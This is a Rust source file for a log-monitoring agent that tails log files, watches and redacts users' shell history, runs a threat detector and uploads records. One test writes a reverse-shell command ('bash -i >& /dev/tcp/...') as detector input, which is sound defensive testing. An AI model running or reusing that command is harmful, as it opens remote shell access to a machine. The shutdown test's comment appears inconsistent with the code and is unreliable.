//! Process-scoped facade (not a distilled-spec component on its own): wires
//! C1–C10 into the long-lived tasks a host program runs as threads, a
//! supervisor process, or a system service.
//!
//! Grounded in the teacher's `logger.rs` facade shape (one object owning
//! the process-wide pieces, exposing plain methods rather than ambient
//! module-level functions) and in `backend/async.rs`'s
//! sender-drop-signals-stop shutdown idiom, adapted from its async-writer
//! channel to a `crossbeam_channel` broadcast every long-lived task selects
//! on alongside its cadence sleep.

use std::collections::HashMap;
use std::path::PathBuf;
use std::time::Duration;

use crossbeam_channel::{bounded, Receiver, Sender};
use rayon::prelude::*;

use crate::activity_log::{
    ActivityLog, COMPONENT_DETECTOR, COMPONENT_LOGIFY, COMPONENT_SHELL_HIST, COMPONENT_SYNC,
    COMPONENT_WATCHER,
};
use crate::config::Config;
use crate::detector::with_detector;
use crate::enrich::{classify_path, extract_network_fields};
use crate::error::Result;
use crate::levels::Level;
use crate::model::LogRecord;
use crate::resource_guard;
use crate::scheduler::{self, Tier};
use crate::shell_history::{
    self, ShellKind,
};
use crate::store::Store;
use crate::sync;
use crate::tracker::FileState;

/// Everything a running agent needs, constructed once at startup and held
/// by the host program for the process lifetime.
pub struct Agent {
    store: Store,
    activity: ActivityLog,
    config: Config,
    shutdown_tx: Sender<()>,
    shutdown_rx: Receiver<()>,
}

/// One user's shell-history poll state: per-file byte offset and the
/// shell-kind classification, so repeated polls don't need to re-stat and
/// re-classify every path every cycle.
struct ShellHistoryState {
    offset: u64,
    kind: ShellKind,
}

impl Agent {
    /// Construct the agent: verify resource capacity for `paths.len()`
    /// files (C1), load config (C10), open the store (C7) and the activity
    /// log (C9). Fails closed on [`crate::error::LogifyError::ResourceLimit`]
    /// or a store migration failure, per the spec's propagation policy —
    /// this is the only place the whole pipeline is allowed to fail to
    /// start.
    pub fn new(paths: &[PathBuf]) -> Result<Agent> {
        resource_guard::ensure_capacity(paths.len())?;

        let config = Config::load()?;
        let store = Store::open(&config.db_path_resolved())?;
        let activity = ActivityLog::open(&Config::home_dir().join("activity.log"))?;
        activity.info(
            COMPONENT_LOGIFY,
            &format!("agent started, tracking {} path(s)", paths.len()),
        );

        let (shutdown_tx, shutdown_rx) = bounded(0);
        Ok(Agent {
            store,
            activity,
            config,
            shutdown_tx,
            shutdown_rx,
        })
    }

    /// Broadcast shutdown: dropping every clone of `shutdown_tx` after this
    /// call closes the channel, which every task's `select!` observes as
    /// "stop accepting new work." Graceful shutdown still lets an in-flight
    /// line finish C3→C4→C5→C7 and lets the uploader finish (or cleanly
    /// abort before marking) its current batch.
    pub fn shutdown_handle(&self) -> Sender<()> {
        self.shutdown_tx.clone()
    }

    fn should_stop(&self) -> bool {
        matches!(self.shutdown_rx.try_recv(), Ok(()) | Err(crossbeam_channel::TryRecvError::Disconnected))
    }

    /// One tier worker: owns a disjoint subset of [`FileState`]s (C3), polls
    /// them on `tier`'s cadence, enriches (C4), runs the detector (C5), and
    /// inserts each resulting record into the store (C7). Within a tier,
    /// files are polled in parallel via `rayon` — each file's state is
    /// independent, so this is embarrassingly parallel; cadence and
    /// per-file line order are unaffected since only iteration-order across
    /// *files* is parallelized, never the order of lines within one file.
    pub fn run_tier_worker(&self, tier: Tier, mut paths: Vec<PathBuf>) {
        scheduler::sort_worklist(&mut paths);
        let mut states: Vec<FileState> = paths.iter().map(|p| FileState::start(p)).collect();

        #[cfg(feature = "inotify")]
        let watcher = crate::tracker::watch_paths(&paths);

        loop {
            if self.should_stop() {
                break;
            }

            let batches: Vec<Vec<LogRecord>> = states
                .par_iter_mut()
                .map(|state| self.poll_one_file(state))
                .collect();

            for batch in batches {
                for record in batch {
                    self.persist(record);
                }
            }

            if self.wait_for_next_cycle(tier.cadence(), {
                #[cfg(feature = "inotify")]
                {
                    watcher.as_ref().map(|w| &w.changes)
                }
                #[cfg(not(feature = "inotify"))]
                {
                    None
                }
            }) {
                break;
            }
        }
    }

    /// Block until either the tier's cadence elapses, a filesystem change
    /// notification arrives (when the `inotify` feature is enabled and a
    /// watch is installed), or shutdown is signaled. Returns `true` when the
    /// caller should stop.
    fn wait_for_next_cycle(
        &self,
        cadence: Duration,
        changes: Option<&Receiver<()>>,
    ) -> bool {
        match changes {
            Some(changes) => crossbeam_channel::select! {
                recv(self.shutdown_rx) -> _ => true,
                recv(changes) -> _ => false,
                default(cadence) => false,
            },
            None => self.shutdown_rx.recv_timeout(cadence).is_ok(),
        }
    }

    /// Poll one tracked file once and turn any new lines into enriched,
    /// detector-annotated records. Pure with respect to shared state except
    /// for the one call into the process-global detector and the one call
    /// that writes to the activity log on rotation/permission events.
    fn poll_one_file(&self, state: &mut FileState) -> Vec<LogRecord> {
        let result = state.poll();

        if result.rotated {
            self.activity.info(
                COMPONENT_WATCHER,
                &format!("rotated: {}", state.path.display()),
            );
        }
        if let Some(err) = result.newly_denied {
            self.activity
                .warning(COMPONENT_WATCHER, &format!("{err}"));
        }

        let source = state.path.to_string_lossy().to_string();
        let (category, subcategory, privacy) = classify_path(&source);

        result
            .lines
            .into_iter()
            .map(|line| self.enrich_and_detect(&source, &line, category, subcategory, privacy))
            .collect()
    }

    fn enrich_and_detect(
        &self,
        source: &str,
        line: &str,
        category: crate::model::Category,
        subcategory: &'static str,
        privacy: crate::model::Privacy,
    ) -> LogRecord {
        let level = Level::infer(line);
        let fields = extract_network_fields(line);

        let threat = with_detector(|d| {
            d.analyze(
                source,
                level,
                line,
                fields.source_ip.as_deref(),
                fields.dest_ip.as_deref(),
                fields.event_id.as_deref(),
            )
        });
        if let Some(event) = &threat {
            self.activity.threat(
                COMPONENT_DETECTOR,
                &format!(
                    "{} ({}): {} — {}",
                    event.threat_type,
                    event.severity.as_str(),
                    event.description,
                    event.recommendation
                ),
            );
        }

        LogRecord {
            id: None,
            source: source.to_string(),
            timestamp: now_secs(),
            level,
            message: line.to_string(),
            category,
            subcategory: subcategory.to_string(),
            privacy,
            source_ip: fields.source_ip,
            dest_ip: fields.dest_ip,
            event_id: fields.event_id,
            synced: false,
            meta: serde_json::Value::Null,
        }
    }

    /// Insert into the store; per the error-handling policy, a failed
    /// insert is recovered (WARN + drop), never fatal.
    fn persist(&self, record: LogRecord) {
        if let Err(e) = self.store.insert(&record) {
            self.activity
                .warning(COMPONENT_WATCHER, &format!("dropping record: {e}"));
        }
    }

    /// Shell-history watcher (C6): every 2s, enumerate user homes, poll
    /// each known history file from its last offset, redact and persist
    /// each command, and run it through the shell-specific detector rules.
    pub fn run_shell_history_watcher(&self) {
        const POLL_INTERVAL: Duration = Duration::from_secs(2);
        let mut offsets: HashMap<PathBuf, ShellHistoryState> = HashMap::new();

        loop {
            if self.should_stop() {
                break;
            }

            for home in shell_history::discover_homes() {
                for path in shell_history::history_files_for_home(&home) {
                    self.poll_shell_history_file(&path, &mut offsets);
                }
            }

            if self.shutdown_rx.recv_timeout(POLL_INTERVAL).is_ok() {
                break;
            }
        }
    }

    fn poll_shell_history_file(
        &self,
        path: &PathBuf,
        offsets: &mut HashMap<PathBuf, ShellHistoryState>,
    ) {
        let metadata = match std::fs::metadata(path) {
            Ok(m) => m,
            Err(_) => return,
        };
        let size = metadata.len();

        let entry = offsets.entry(path.clone()).or_insert_with(|| ShellHistoryState {
            offset: size,
            kind: shell_history::classify_shell(path),
        });

        if size < entry.offset {
            entry.offset = 0;
        }
        if size == entry.offset {
            return;
        }

        let Ok(bytes) = std::fs::read(path) else {
            return;
        };
        let slice = &bytes[entry.offset as usize..];
        let text = String::from_utf8_lossy(slice);
        let commands = shell_history::parse_commands(entry.kind, &text);
        entry.offset = size;

        let user = shell_history::user_for_path(path);
        let source = path.to_string_lossy().to_string();

        for command in commands {
            if command.is_empty() {
                continue;
            }
            let threat = with_detector(|d| {
                d.analyze_shell_command(&command, &source, Some(user.as_str()))
            });
            if let Some(event) = &threat {
                self.activity.threat(
                    COMPONENT_DETECTOR,
                    &format!(
                        "{} ({}): {}",
                        event.threat_type,
                        event.severity.as_str(),
                        event.description
                    ),
                );
            }

            let redacted = shell_history::sanitize_command(&command);
            let record = LogRecord {
                id: None,
                source: source.clone(),
                timestamp: now_secs(),
                level: Level::Info,
                message: redacted,
                category: crate::model::Category::UserActivity,
                subcategory: "Shell History".to_string(),
                privacy: crate::model::Privacy::Sensitive,
                source_ip: None,
                dest_ip: None,
                event_id: None,
                synced: false,
                meta: serde_json::Value::Null,
            };
            self.persist(record);
            self.activity.debug(
                COMPONENT_SHELL_HIST,
                &format!("recorded command for user '{user}' from {source}"),
            );
        }
    }

    /// Sync uploader (C8): on `cadence`, drain the store's unsynced queue
    /// to the aggregator. `cadence` is clamped to at least
    /// [`sync::MIN_CYCLE_SECS`].
    pub fn run_uploader(&self, cadence: Duration) {
        let cadence = cadence.max(Duration::from_secs(sync::MIN_CYCLE_SECS));
        loop {
            if self.should_stop() {
                break;
            }

            match sync::run_cycle(&self.store, &self.config) {
                Ok(0) => {}
                Ok(n) => self
                    .activity
                    .info(COMPONENT_SYNC, &format!("synced {n} record(s)")),
                Err(crate::error::LogifyError::ConfigMissing) => self
                    .activity
                    .info(COMPONENT_SYNC, "sync not configured, skipping cycle"),
                Err(e) => self
                    .activity
                    .warning(COMPONENT_SYNC, &format!("batch upload failed: {e}")),
            }

            if self.shutdown_rx.recv_timeout(cadence).is_ok() {
                break;
            }
        }
    }

    pub fn store(&self) -> &Store {
        &self.store
    }

    pub fn activity_log(&self) -> &ActivityLog {
        &self.activity
    }
}

fn now_secs() -> f64 {
    use std::time::{SystemTime, UNIX_EPOCH};
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap_or_default()
        .as_secs_f64()
}

/// Recommend whether the calling process should re-exec itself under a
/// privilege-escalation helper before any file tracking begins. Returns the
/// recommended argv prefix (e.g. `["sudo", "-E"]`) rather than performing
/// the re-exec itself — process replacement is a host-program decision, and
/// the CLI surface that decides whether to escalate is explicitly out of
/// core.
pub fn maybe_escalate(is_privileged: bool, tracking_active: bool) -> Option<Vec<&'static str>> {
    if is_privileged || tracking_active {
        return None;
    }
    Some(vec!["sudo", "-E"])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Category, Privacy};
    use std::fs::OpenOptions;
    use std::io::Write as _;
    use tempfile::tempdir;

    /// Build an `Agent` directly from a scratch directory, bypassing
    /// `Agent::new`'s `$LOGIFY_HOME`/`$LOGIFY_DB_PATH` environment lookup —
    /// mutating process-wide env vars from tests that may run concurrently
    /// on other threads would be racy.
    fn test_agent(dir: &std::path::Path) -> Agent {
        let mut config = Config::default();
        config.db_path = Some(dir.join("server.db"));
        let store = Store::open(&config.db_path_resolved()).unwrap();
        let activity = ActivityLog::open(&dir.join("activity.log")).unwrap();
        let (shutdown_tx, shutdown_rx) = bounded(0);
        Agent {
            store,
            activity,
            config,
            shutdown_tx,
            shutdown_rx,
        }
    }

    #[test]
    fn maybe_escalate_recommends_only_when_unprivileged_and_idle() {
        assert_eq!(maybe_escalate(true, false), None);
        assert_eq!(maybe_escalate(false, true), None);
        assert_eq!(maybe_escalate(false, false), Some(vec!["sudo", "-E"]));
    }

    #[test]
    fn s1_end_to_end_reverse_shell_persists_record_and_raises_threat() {
        crate::detector::reset_detector();
        let dir = tempdir().unwrap();
        let agent = test_agent(dir.path());

        let log_path = dir.path().join("app.log");
        std::fs::write(&log_path, "").unwrap();
        let mut state = FileState::start(&log_path);

        let mut f = OpenOptions::new().append(true).open(&log_path).unwrap();
        writeln!(f, "cmd = bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").unwrap();

        let records = agent.poll_one_file(&mut state);
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].category, Category::System);
        assert_eq!(records[0].privacy, Privacy::Public);
        for record in records {
            agent.persist(record);
        }

        let recent = agent.store().recent(10).unwrap();
        assert_eq!(recent.len(), 1);
        assert!(recent[0].message.contains("/dev/tcp/10.0.0.1/4444"));
    }

    #[test]
    fn s3_rotation_end_to_end_reads_new_file_from_start() {
        let dir = tempdir().unwrap();
        let agent = test_agent(dir.path());

        let log_path = dir.path().join("t.log");
        std::fs::write(&log_path, "one\ntwo\nthree\n").unwrap();
        let mut state = FileState::start(&log_path);
        assert!(agent.poll_one_file(&mut state).is_empty());

        std::fs::rename(&log_path, dir.path().join("t.log.1")).unwrap();
        std::fs::write(&log_path, "A\nB\n").unwrap();

        let records = agent.poll_one_file(&mut state);
        let messages: Vec<&str> = records.iter().map(|r| r.message.as_str()).collect();
        assert_eq!(messages, vec!["A", "B"]);
    }

    #[test]
    fn s6_shell_history_redacts_credential_without_emitting_threat() {
        crate::detector::reset_detector();
        let dir = tempdir().unwrap();
        let agent = test_agent(dir.path());

        let home = dir.path().join("home/alice");
        std::fs::create_dir_all(&home).unwrap();
        let history = home.join(".bash_history");
        std::fs::write(&history, "").unwrap();

        let mut offsets = HashMap::new();
        // First poll just seeds the offset at the file's current size (a
        // history file is "watched from now", not backfilled) — it must
        // run before the credential line exists.
        agent.poll_shell_history_file(&history, &mut offsets);

        let mut f = OpenOptions::new().append(true).open(&history).unwrap();
        writeln!(f, "export AWS_SECRET_ACCESS_KEY=abc").unwrap();
        drop(f);

        agent.poll_shell_history_file(&history, &mut offsets);

        let recent = agent.store().recent(10).unwrap();
        assert_eq!(recent.len(), 1);
        assert_eq!(recent[0].message, "[FILTERED: Contains sensitive data]");
    }

    #[test]
    fn shutdown_handle_stops_a_running_tier_worker() {
        let dir = tempdir().unwrap();
        let agent = test_agent(dir.path());
        let shutdown = agent.shutdown_handle();
        drop(shutdown);
        // With the sender dropped before the loop starts, the first
        // recv_timeout observes a disconnected channel and the worker
        // exits immediately instead of blocking for a full cadence.
        agent.run_tier_worker(Tier::Other, vec![]);
    }
}
